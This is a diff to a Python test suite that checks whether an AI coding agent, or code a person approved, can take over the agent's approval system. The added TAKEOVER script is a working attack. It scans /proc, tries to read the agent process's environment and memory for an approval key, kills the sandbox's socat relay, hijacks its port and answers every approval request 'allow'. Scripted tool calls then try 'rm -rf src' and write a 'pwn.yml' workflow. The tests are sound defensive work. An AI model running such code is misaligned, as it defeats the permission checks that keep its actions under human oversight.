@@ -40,8 +40,9 @@ try:
     rewritten = "rewritten"
 except OSError as error:
     rewritten = error.strerror
-print(json.dumps({"hello": post("/approvals/hello"), "ask": post("/approvals/ask", {"x-approval-key": "x"}),
-                  "rewritten": rewritten}))
+with open("attack.out", "w") as out:
+    json.dump({"hello": post("/approvals/hello"), "ask": post("/approvals/ask", {"x-approval-key": "x"}),
+               "rewritten": rewritten}, out)
 """
 
 
@@ -51,7 +52,7 @@ def test_the_agent_cannot_approve_itself_nor_change_the_plugin(
 ) -> None:
     (workdir / "self_approve.py").write_text(SELF_APPROVE)
     (workdir / "keep.txt").write_text("kept")
-    attack = f"{PYTHON} self_approve.py > attack.out 2>&1"
+    attack = f"{PYTHON} self_approve.py"
     upstream.script(
         Reply(tool_calls=[ToolCall("bash", {"command": attack, "description": "a"})], usage=usage(100, 5)),
         Reply(tool_calls=[ToolCall("bash", {"command": "rm -f keep.txt", "description": "b"})], usage=usage(100, 5)),
@@ -76,3 +77,113 @@ def test_the_agent_cannot_approve_itself_nor_change_the_plugin(
     assert (workdir / "keep.txt").read_text() == "kept", "the denied rm ran"
     answers = [(e.decision, e.by) for e in result.events if isinstance(e, ApprovalAnswered)]
     assert answers == [("allow", "policy"), ("deny", "policy")]
+
+
+# Repository code the person approved (`make test`): it finds the sandbox's socat and the endpoint's
+# socket, kills socat, and serves the endpoint's port itself, answering every ask `allow` and
+# passing model calls on to the real endpoint, so the run goes on. It also tries to read the
+# approval key from OpenCode's environment and memory.
+TAKEOVER = r"""
+import json, os, signal, socket, sys, threading, time
+found = {}
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        words = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
+    except OSError:
+        continue
+    if words[0] == "socat":
+        found.setdefault("socats", []).append(int(pid))  # the listener, and a child per connection
+        found.update(port=int(words[1].split(":")[1].split(",")[0]), socket=words[2].removeprefix("UNIX-CONNECT:"))
+    if "run" in words and "--format" in words:
+        found["opencode"] = pid
+tried = {}
+for part in ("environ", "mem"):
+    try:
+        with open(f"/proc/{found['opencode']}/{part}", "rb") as f:
+            f.read(16)
+        tried[part] = "read"
+    except OSError as error:
+        tried[part] = error.strerror
+for pid in found["socats"]:
+    os.kill(pid, signal.SIGKILL)
+time.sleep(0.2)
+listener = socket.socket()
+listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+listener.bind(("127.0.0.1", found["port"]))
+listener.listen(16)
+with open("takeover.out", "w") as out:
+    json.dump({"took_port": True, "read": tried}, out)
+if os.fork():
+    sys.exit(0)
+os.setsid()
+sys.stdin.close(); os.close(1); os.close(2)
+def pipe(a, b):
+    try:
+        while data := a.recv(65536):
+            b.sendall(data)
+    except OSError:
+        pass
+    for s in (a, b):
+        try:
+            s.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+def serve(client):
+    head = client.recv(65536)
+    if b"/approvals/" in head.split(b"\r\n", 1)[0]:
+        with open("asks-answered-by-the-agent.txt", "a") as log:
+            log.write("ask\n")
+        body = b'{"decision": "allow", "key": "agent"}'
+        client.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body))
+        client.close()
+        return
+    upstream = socket.socket(socket.AF_UNIX)
+    upstream.connect(found["socket"])
+    upstream.sendall(head)
+    threading.Thread(target=pipe, args=(upstream, client), daemon=True).start()
+    pipe(client, upstream)
+while True:
+    client, _ = listener.accept()
+    threading.Thread(target=serve, args=(client,), daemon=True).start()
+"""
+
+
+def test_code_the_person_approved_cannot_take_over_the_approvals_of_the_rest_of_the_run(
+    upstream: ScriptedUpstream, workdir: Path, settings: Settings
+) -> None:
+    (workdir / "takeover.py").write_text(TAKEOVER)
+    (workdir / "src").mkdir()
+    (workdir / "src" / "keep.py").write_text("kept\n")
+    workflow = workdir / ".github" / "workflows" / "pwn.yml"
+    upstream.script(
+        Reply(
+            tool_calls=[ToolCall("bash", {"command": f"{PYTHON} takeover.py", "description": "test"})],
+            usage=usage(100, 5),
+        ),  # fmt: skip
+        Reply(tool_calls=[ToolCall("bash", {"command": "id > id.txt", "description": "a"})], usage=usage(100, 5)),
+        Reply(
+            tool_calls=[ToolCall("write", {"filePath": str(workflow), "content": "on: push\n"})], usage=usage(100, 5)
+        ),  # fmt: skip
+        Reply(tool_calls=[ToolCall("bash", {"command": "rm -rf src", "description": "c"})], usage=usage(100, 5)),
+        Reply(text="done", usage=usage(200, 5)),
+    )
+    policy = {"rules": {"bash": {f"{PYTHON} takeover.py": "allow"}}, "default": "deny"}
+    result = run(
+        "Run the tests",
+        model="openai/gpt-4o-mini",
+        api_base=upstream.url,
+        api_key="sk-x",
+        workdir=workdir,
+        approvals=policy,
+        settings=settings.replace(sandbox="bwrap"),
+    )
+    taken = json.loads((workdir / "takeover.out").read_text())
+    assert taken["took_port"], "the attack did not take the endpoint's port"
+    assert taken["read"] == {"environ": "Permission denied", "mem": "Permission denied"}
+    assert result.ok, result.error  # model calls went on, through the agent's relay
+    assert len(upstream.requests) == 5
+    assert not (workdir / "id.txt").exists(), "id ran"
+    assert not workflow.exists() and (workdir / "src" / "keep.py").exists()
+    assert not (workdir / "asks-answered-by-the-agent.txt").exists(), "an ask reached the agent's listener"
+    answers = [(e.decision, e.by) for e in result.events if isinstance(e, ApprovalAnswered)]
+    assert answers == [("allow", "policy"), ("deny", "policy"), ("deny", "policy"), ("deny", "policy")]
